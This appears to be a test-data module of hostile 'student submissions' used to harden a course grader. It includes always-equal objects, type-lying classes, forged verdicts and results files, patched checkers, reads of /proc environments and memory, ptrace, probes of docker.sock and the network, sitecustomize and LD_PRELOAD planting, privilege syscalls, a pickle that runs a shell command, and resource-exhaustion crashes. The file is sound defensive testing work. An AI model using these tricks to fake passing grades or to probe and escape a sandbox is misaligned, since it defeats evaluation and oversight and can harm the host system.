"""Attacks on the grader, as a student could hand them in: what test_attacks and test_attacks_on_labs go through.

VALUES are answers that pretend to be right, in place of one answer each; what they return is all they do. ACTS run in
the first cell and turn on the process, the grader or the machine; every answer beside them is wrong but one (q2), which
shows that the rest was still judged. DEADLY are acts that are expected to cost the process they run in.
"""

# What a value is made of, for lab 90 and for every other lab.
PRETENDERS = """
import numpy as np

class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __len__(self): return 3
    def __iter__(self): return iter([self] * 3)
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __truediv__ = __abs__ = __neg__ = __sub__

class Anything:
    "Claims to be whatever is asked for."
    def __init__(self, kind): self.kind = kind
    __class__ = property(lambda self: self.kind)
    def __eq__(self, other): return True
    __hash__ = None

def equal(kind):
    "A subclass that compares equal to everything."
    return type("Equal" + kind.__name__, (kind,), {
        "__eq__": lambda a, b: True, "__ne__": lambda a, b: False, "__hash__": kind.__hash__})

class Array(np.ndarray):
    def __eq__(self, other): return np.ones(1, bool)
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return np.True_
    def __array__(self, *a, **k): raise SystemExit(0)
"""

Q1 = "def softmax(x):\n    "
Q2 = "def bigrams(text):\n    "
Q4 = "def surprise(x, target):\n    "
VALUES: dict[str, tuple[str, str]] = {
    # always equal
    "an object that equals everything": ("q1", Q1 + "return Equal()"),
    "an array of objects that equal everything": ("q1", Q1 + "return np.array([Equal() for _ in x], object)"),
    "an array subclass that answers every comparison": ("q1", Q1 + "return np.zeros(len(x)).view(Array)"),
    "a list subclass that equals everything": ("q2", Q2 + "return equal(list)([Equal()] * (len(text) - 1))"),
    "a list of tuples that equal everything": (
        "q2",
        Q2 + "return [equal(tuple)((equal(str)('a'), equal(str)('b')))] * (len(text) - 1)",
    ),
    "an int subclass that equals everything": ("q3", "vocab_size = equal(int)(0)"),
    "a bool for an int": ("q3", "vocab_size = True"),
    "a float subclass that equals everything": ("q4", Q4 + "return equal(float)('nan')"),
    "a table that equals everything": ("q5", "class Table(Equal):\n    def __init__(self, size): pass"),
    # lies about its type
    "an object that claims to be an array": ("q1", Q1 + "return Anything(np.ndarray)"),
    "an object that claims to be a list": ("q2", Q2 + "return Anything(list)"),
    "an object that claims to be an int": ("q3", "vocab_size = Anything(int)"),
    "a class in place of its instance": ("q1", "class softmax:\n    def __new__(cls, x): return cls"),
    "a metaclass whose instances are instances of everything": (
        "q5",
        "class Meta(type):\n    def __instancecheck__(c, o): return True\n    def __eq__(c, o): return True\n"
        "    __hash__ = type.__hash__\nclass Table(metaclass=Meta):\n    def __init__(self, size): pass\n"
        "    def add(self, n): pass\n    counts = most = lambda self=None: Equal()",
    ),
    # numbers that compare strangely
    "NaN everywhere": ("q1", Q1 + "return np.full(len(x), np.nan)"),
    "infinity everywhere": ("q1", Q1 + "return np.full(len(x), np.inf)"),
    "NaN for a number": ("q4", Q4 + "return float('nan')"),
    "a complex NaN": ("q1", Q1 + "return np.full(len(x), complex('nan+nanj'))"),
    "no time": ("q1", Q1 + "return np.full(len(x), np.datetime64('NaT'))"),
    "a masked array": ("q1", Q1 + "return np.ma.masked_all(len(x))"),
    "a record array": ("q1", Q1 + "return np.zeros(len(x), [('a', float)])"),
    "an array of text": ("q1", Q1 + "return np.full(len(x), 'nan')"),
    # shapes that broadcast
    "nothing at all": ("q1", Q1 + "return np.ones((0,))"),
    "an empty axis that broadcasts": ("q1", Q1 + "return np.ones((0, len(x)))"),
    "one number for all": ("q1", Q1 + "return np.float64(1.0)"),
    "more axes than asked for": ("q1", Q1 + "return np.full((1, len(x)), 1 / len(x))"),
    "an empty list": ("q2", Q2 + "return []"),
    # made to be read by somebody else's code
    "a pickle that runs a programme": (
        "q1",
        "class Pickle:\n    def __reduce__(self): return (__import__('os').system, ('touch /tmp/pickled',))\n"
        + Q1
        + "return Pickle()",
    ),
    "an object array, which numpy would pickle": ("q1", Q1 + "return np.array([{'allow_pickle': True}])"),
    "a generator": ("q2", Q2 + "return (Equal() for _ in text)"),
    "a list that holds itself": ("q2", Q2 + "a = []; a.append(a); return a"),
    "a list of a million levels": (
        "q2",
        Q2 + "a = []\n    for _ in range(10**6): a = [a]\n    return a",
    ),
    "a view of a trillion numbers": (
        "q1",
        Q1 + "return np.lib.stride_tricks.as_strided(np.zeros(1), (10**12,), (0,))",
    ),
    "an integer of a million digits": ("q4", Q4 + "return 10 ** 1_000_000"),
    "text of terminal commands": ("q2", Q2 + "return '\\x1b]0;owned\\x07\\x1b[2J\\ud800' * 9"),
    "a dict whose keys hash alike": ("q2", Q2 + "return {n * (2**61 - 1): 1 for n in range(2000)}"),
    # exceptions that say what a report says
    "an error that says correct": ("q1", Q1 + "raise AssertionError('correct')"),
    "an error whose text is a trap": (
        "q1",
        "class E(Exception):\n    def __str__(self): raise SystemExit(0)\n" + Q1 + "raise E",
    ),
    "an error called Forbidden": (
        "q1",
        "class Forbidden(Exception): pass\n" + Q1 + "raise Forbidden('x is not available')",
    ),
    "the end of the iteration": ("q2", Q2 + "raise StopIteration(list(zip(text, text[1:])))"),
    "the exit of the interpreter": ("q1", Q1 + "raise SystemExit(0)"),
    "Ctrl-C": ("q4", Q4 + "raise KeyboardInterrupt"),
    "a generator that is told to stop": ("q1", Q1 + "raise GeneratorExit"),
    # what it was shown
    "the inputs changed so that the answer is easy": (
        "q1",
        Q1 + "x[:] = 0.0\n    return np.full(len(x), 1 / len(x))",
    ),
    "the values of the public cases, replayed": (
        "q2",
        "shown = []\n" + Q2 + "shown.append(text)\n    return list(zip(shown[0], shown[0][1:]))",
    ),
    "the answer of a second question": ("q4", Q4 + "return Equal() if target else float(x[0])"),
}

FORGE = """
import json, os, sys
def shout(data):
    for descriptor in range(3, 64):
        try: os.write(descriptor, data)
        except OSError: pass
def request_frame():
    frame = sys._getframe()
    while frame is not None:
        if "request" in frame.f_locals: return frame
        frame = frame.f_back
def nonce():
    return request_frame().f_locals["request"]["nonce"]
"""
WRONG_SOFTMAX = "\ndef softmax(x):\n    return np.ones(len(x))"

ACTS: dict[str, str] = {
    # the framework
    "comparisons of numpy that always agree": (
        "np.isclose = np.allclose = np.array_equal = np.testing.assert_allclose = lambda *a, **k: np.True_\n"
        "np.isnan = lambda a: np.zeros(1, bool)" + WRONG_SOFTMAX
    ),
    "a patched encoder": (
        "import sys\nwire = sys.modules['wire']\nwire.Unsupported = object\n"
        "wire.encode = lambda value: {'bool': True}" + WRONG_SOFTMAX
    ),
    "patched json": "import json\njson.dumps = json.loads = json.JSONEncoder.encode = lambda *a, **k: '{}'"
    + WRONG_SOFTMAX,
    "patched hashes and random numbers": (
        "import hashlib, random, secrets\nhashlib.sha256 = None\nrandom.seed = np.random.seed = lambda *a: None\n"
        "secrets.token_hex = lambda n: '00'" + WRONG_SOFTMAX
    ),
    "patched numpy arithmetic": "np.exp = np.sum = np.asarray = lambda *a, **k: np.zeros(1)" + WRONG_SOFTMAX,
    "a check that always passes": (
        "import courseware\ncourseware.check = lambda *a, **k: 'pass'\n"
        "courseware.grading.grader.Report.score = 7" + WRONG_SOFTMAX
    ),
    "import hooks taken away": (
        "import sys\nsys.meta_path[:] = [f for f in sys.meta_path if 'Withheld' not in type(f).__name__]\n"
        "for name in ('llmlib', 'courseware', 'transformers'):\n    sys.modules.pop(name, None)\n"
        "found = ''\nfor name in ('llmlib.sandbox', 'courseware.grading', 'courseware.classroom.cases', 'minilab', "
        "'lab90_hidden', 'transformers'):\n"
        "    try:\n        found += name + ' ' if getattr(__import__(name), '__file__', None) else ''\n"
        "    except ImportError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    # reading what is not for students
    "a walk over every file": (
        "import os\nfound = []\n"
        "for top in ('/', '/work', '/root', '/home', '/mnt', '/srv', '/opt', '/var', '/tmp', '/sandbox'):\n"
        "    for folder, folders, files in os.walk(top):\n"
        "        folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'lib', 'site-packages')]\n"
        "        found += [f for f in files if 'hidden' in f and f.startswith('lab') or f.endswith('.ipynb')]\n"
        "        found += [f for f in folders if f in ('solutions', 'minilab', '.git')]\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + ' '.join(found))"
    ),
    "the tests, by the paths they have": (
        "found = ''\nfor path in PATHS:\n"
        "    try:\n        open(path).read(); found += path + ' '\n    except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "symbolic links and other processes' folders": (
        "import glob, os\nfound = ''\n"
        "for n, target in enumerate([*PATHS, '/proc/1/root', '/proc/1/cwd', '/proc/2/root', '/proc/self/root']):\n"
        "    link = f'/tmp/link{n}'\n    os.symlink(target, link)\n"
        "    for path in (link, link + '/work', link + '/root'):\n"
        "        try:\n            if os.path.isfile(path) and open(path).read(): found += path + '=' + target + ' '\n"
        "            elif [f for f in os.listdir(path) if f.endswith('hidden.py') or f == 'pyproject.toml']: "
        "found += path\n"
        "        except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "environment and command lines": (
        "import glob, os\nseen = repr(dict(os.environ))\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: seen += open(path, 'rb').read().decode(errors='replace')\n    except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + ' '.join(w for w in WORDS if w in seen))"
    ),
    "frames and garbage": (
        "import gc, sys\ndef softmax(x):\n    word = bytes.fromhex('6e702e6578702878202d20782e6d6178282929').decode()\n"
        "    seen, frame = [], sys._getframe().f_back\n"
        "    while frame is not None:\n        seen += map(str, frame.f_locals.values()); frame = frame.f_back\n"
        "    for thing in gc.get_objects():\n        if type(thing) in (dict, tuple, list) and len(thing) < 50:\n"
        "            seen += [t for t in (thing.values() if type(thing) is dict else thing) if type(t) is str]\n"
        "    raise RuntimeError('FOUND ' + 'reference' * any(word in text for text in seen))"
    ),
    "the memory of other processes": (
        "import ctypes, os\nfound = ''\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in (1, os.getppid(), 2, 3):\n"
        "    if pid in (0, os.getpid()): continue\n"
        "    if libc.ptrace(16, pid, 0, 0) == 0: found += f'ptrace {pid} '\n"
        "    try: open(f'/proc/{pid}/mem', 'r+b').close(); found += f'mem {pid} '\n    except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    # the conversation
    "a reply written before the question": (
        FORGE + "for n in ('', '0' * 32, None, 0):\n"
        "    shout((json.dumps({'nonce': n, 'value': {'array': 'x'}}) + '\\n').encode())" + WRONG_SOFTMAX
    ),
    "a stolen nonce with a verdict": (
        FORGE + "def softmax(x):\n"
        "    for said in ({'passed': True}, {'score': 7}, {'value': {'bool': True}}, {'value': None, 'verdict': "
        "'correct'}):\n"
        "        shout((json.dumps({'nonce': nonce(), **said}) + '\\n').encode())\n    return Equal()"
    ),
    "a stolen nonce that asks for the reference": (
        FORGE + "def softmax(x):\n"
        "    shout((json.dumps({'nonce': nonce(), 'remote': ['softmax', 'call', {'list': []}]}) + '\\n').encode())\n"
        "    return np.ones(len(x))"
    ),
    "a request rewritten on its way": (
        FORGE + "def softmax(x):\n    request = request_frame().f_locals['request']\n"
        "    request.update(op='run', source='pass', name='vocab_size', recipe=None, args=None)\n"
        "    return np.ones(len(x))"
    ),
    "half a line, then another's": FORGE
    + 'def softmax(x):\n    shout(b\'{"nonce": "\' + nonce().encode()); return np.ones(len(x))',
    "deep nesting with the right nonce": (
        FORGE + "def softmax(x):\n"
        "    shout(('{\"nonce\": \"' + nonce() + '\", \"value\": ' + '[' * 5000 + ']' * 5000 + '}\\n').encode())\n"
        "    return np.ones(len(x))"
    ),
    "a forked answer": ("import os\nos.fork()\n" + "def softmax(x):\n    os.fork()\n    return np.ones(len(x))"),
    "reports written where a grader might look": (
        "import json, os\n"
        "for name in ('results.json', 'grades.csv', 'grades.details.csv', 'results/results.json', '.coveragerc'):\n"
        "    try:\n        os.makedirs(os.path.dirname(name) or '.', exist_ok=True)\n"
        "        open(name, 'w').write(json.dumps({'score': 100, 'tests': [{'score': 7, 'max_score': 7}]}))\n"
        "    except OSError: pass\n"
        "print('lab90.q1   2/2  Softmax: correct')\nprint('student: 7 of 7 points (lab90, 0.1 s)')" + WRONG_SOFTMAX
    ),
    # later than the answer
    "at exit, from finalizers and from threads": (
        FORGE + "import atexit, threading, weakref\n"
        'def late(*a):\n    shout(b\'{"value": {"bool": true}}\\n\')\n'
        "atexit.register(late)\nclass Dies:\n    __del__ = late\nkept = Dies()\nweakref.finalize(late, late)\n"
        "def often():\n    import time\n    while True:\n        late(); time.sleep(0.01)\n"
        "threading.Thread(target=often, daemon=True).start()" + WRONG_SOFTMAX
    ),
    "a trace function and an audit hook": (
        "import sys, threading\nseen = []\n"
        "sys.settrace(lambda frame, event, arg: seen.append((event, str(arg)[:100])))\n"
        "sys.setprofile(lambda frame, event, arg: None)\nsys.addaudithook(lambda *a: seen.append(str(a)[:100]))\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + ' '.join(s for s in map(str, seen) if 'x.max' in s))"
    ),
    "a signal every millisecond": (
        "import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)" + WRONG_SOFTMAX
    ),
    "signals to whoever started it": (
        "import os, signal\nfor pid in {1, os.getppid(), -1, 0} - {0, os.getpid()}:\n"
        "    for number in (signal.SIGCHLD, signal.SIGCONT, signal.SIGWINCH):\n"
        "        try: os.kill(pid, number)\n        except OSError: pass" + WRONG_SOFTMAX
    ),
    "clocks that stand still": (
        "import time\ntime.monotonic = time.time = time.perf_counter = time.process_time = lambda: 0.0\n"
        "time.sleep = lambda s: None\n"
        "try: time.clock_settime(time.CLOCK_REALTIME, 0)\nexcept OSError: pass" + WRONG_SOFTMAX
    ),
    # the machine
    "the network": (
        "import socket\nfound = ''\n"
        "for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM), "
        "(socket.AF_INET6, socket.SOCK_STREAM)):\n"
        "    for address in ('127.0.0.1', '192.0.2.1', '::1'):\n"
        "        try:\n            s = socket.socket(family, kind); s.settimeout(0.2)\n"
        "            s.connect((address, PORT)); s.send(b'softmax?'); s.recv(9); found += address\n"
        "        except OSError: pass\n"
        "try: socket.getaddrinfo('example.org', 80); found += 'names'\nexcept OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "a door left in the kernel": (
        "import socket\nfound = ''\n"
        "for name in (f'\\0door{DOOR}', '/tmp/.X11-unix/X0', '/run/dbus/system_bus_socket', "
        "'/var/run/docker.sock', '/dev/log'):\n"
        "    try: s = socket.socket(socket.AF_UNIX); s.connect(name); found += repr(name)\n    except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "the disk filled": (
        "import os\nwritten = 0\n"
        "try:\n    for n in range(10_000):\n        open(f'/tmp/f{n}', 'wb').write(bytes(1 << 20)); written += 1\n"
        "except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + ('disk' if written > 1000 else ''))"
    ),
    "a file with holes": (
        "import os\nfound = ''\n"
        "try:\n    f = os.open('/tmp/holes', os.O_CREAT | os.O_WRONLY); os.ftruncate(f, 1 << 40); found = 'holes'\n"
        "except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "writing wherever it may": (
        "import os, site, sysconfig\nfound = ''\n"
        "for folder in ('/', '/usr', '/etc', '/sandbox', '/dev', '/dev/shm/..', '/proc/sys/kernel', *PATHS, "
        "sysconfig.get_path('purelib'), sysconfig.get_path('stdlib')):\n"
        "    for path in (folder, folder + '/MARKER'):\n"
        "        try:\n            if os.path.isdir(path): continue\n"
        "            open(path, 'a').write('MARKER'); found += path + ' '\n        except OSError: pass\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "code for the next interpreter": (
        "import os, sys\n"
        "for name in ('sitecustomize.py', 'usercustomize.py', 'json.py', 'numpy.py', '.pdbrc', '.pythonrc.py'):\n"
        "    for folder in ('/tmp', os.getcwd(), os.path.expanduser('~')):\n"
        "        try: open(os.path.join(folder, name), 'w').write('raise SystemExit(0)')\n"
        "        except OSError: pass\n"
        "os.environ.update(PYTHONPATH='/tmp', PYTHONSTARTUP='/tmp/sitecustomize.py', LD_PRELOAD='/tmp/x.so')"
        + WRONG_SOFTMAX
    ),
    "more rights": (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfound = ''\n"
        "for name, call in dict(mount=lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, 0), "
        "unshare=lambda: libc.unshare(0x10000000), chroot=lambda: libc.chroot(b'/tmp'), "
        "swap=lambda: libc.swapoff(b'/x'), reboot=lambda: libc.reboot(0), modules=lambda: libc.syscall(175, 0, 0, 0), "
        "bpf=lambda: libc.syscall(321, 0, 0, 0), keys=lambda: libc.syscall(250, 0, -3, 1), "
        "uring=lambda: libc.syscall(425, 8, 0), memfd=lambda: libc.memfd_create(b'x', 0)).items():\n"
        "    if call() >= 0: found += name + ' '\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "limits lifted": (
        "import resource\nfound = ''\n"
        "for name in ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_FSIZE', 'RLIMIT_CORE', 'RLIMIT_NOFILE', 'RLIMIT_MSGQUEUE'):\n"
        "    what = getattr(resource, name)\n    hard = resource.getrlimit(what)[1]\n"
        "    try: resource.setrlimit(what, (2**40, 2**40)); found += name + ' '\n"
        "    except (ValueError, OSError): pass\n"
        "    if hard == resource.RLIM_INFINITY: found += name + ' has none '\n"
        "def softmax(x):\n    raise RuntimeError('FOUND ' + found)"
    ),
    "another interpreter": (
        "import subprocess, sys\nleft = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(99)'])\n"
        "def softmax(x):\n    try: subprocess.run(['true']); found = 'started'\n    except OSError: found = ''\n"
        "    found += '' if left.poll() is not None else ' left'\n    raise RuntimeError('FOUND ' + found)"
    ),
    "cells that speak to the notebook": (
        "%%bash\ntouch MARKER\n!touch MARKER\n%run /etc/passwd\nget_ipython().system('touch MARKER')" + WRONG_SOFTMAX
    ),
    # the other answers
    "every name taken by one object": (
        "everything = Equal()\nsoftmax = vocab_size = surprise = Table = everything\nSTUDENT = why = guess = everything"
    ),
    "a namespace that answers for all": (
        "import sys\nspace = vars(sys.modules['__main__'])\n"
        "def softmax(x):\n    space.update(vocab_size=3, surprise=lambda x, t: Equal(), Table=Equal)\n"
        "    return np.ones(len(x))"
    ),
    "a stand-in kept for its own question": (
        "def softmax(x):\n    try: return reference(x)\n    except NameError: return np.ones(len(x))\n"
        "def surprise(x, target):\n    global reference\n    reference = softmax\n    return 0.0"
    ),
}

DEADLY: dict[str, str] = {
    "patched builtins": (
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 3\n"
        "builtins.type = lambda *a: int" + WRONG_SOFTMAX
    ),
    "the interpreter left": "import os\ndef softmax(x):\n    os._exit(0)",
    "a segmentation fault": "import ctypes\ndef softmax(x):\n    ctypes.string_at(0)",
    "no stack left": ("import sys\nsys.setrecursionlimit(10**9)\ndef softmax(x):\n    return softmax(x)"),
    "killed by itself": "import os\ndef softmax(x):\n    os.kill(os.getpid(), 9)",
    "stopped by itself": "import os, signal\ndef softmax(x):\n    os.kill(os.getpid(), signal.SIGSTOP)",
    "an endless loop that catches everything": (
        "def softmax(x):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass"
    ),
    "a flood of replies": FORGE + "def softmax(x):\n    while True: shout(b'x' * 65536)",
    "memory without end": (
        "def softmax(x):\n    kept = []\n    while True:\n        try: kept.append(bytearray(1 << 28))\n"
        "        except MemoryError: pass"
    ),
    "a reply of four gigabytes": "def softmax(x):\n    return [b'x' * (1 << 20)] * 4096",
    "descriptors without end": (
        "import os\nfor n in range(3, 64):\n    try: os.close(n)\n    except OSError: pass" + WRONG_SOFTMAX
    ),
    "a worker replaced by another programme": (
        "import os\ntry: os.execv('/bin/sh', ['sh', '-c', 'while :; do echo \"{}\"; done'])\nexcept OSError: pass"
        + WRONG_SOFTMAX
    ),
}

# These break the process for the other answers of their own submission as well.
TAKES_ALL = {"patched builtins", "descriptors without end"}
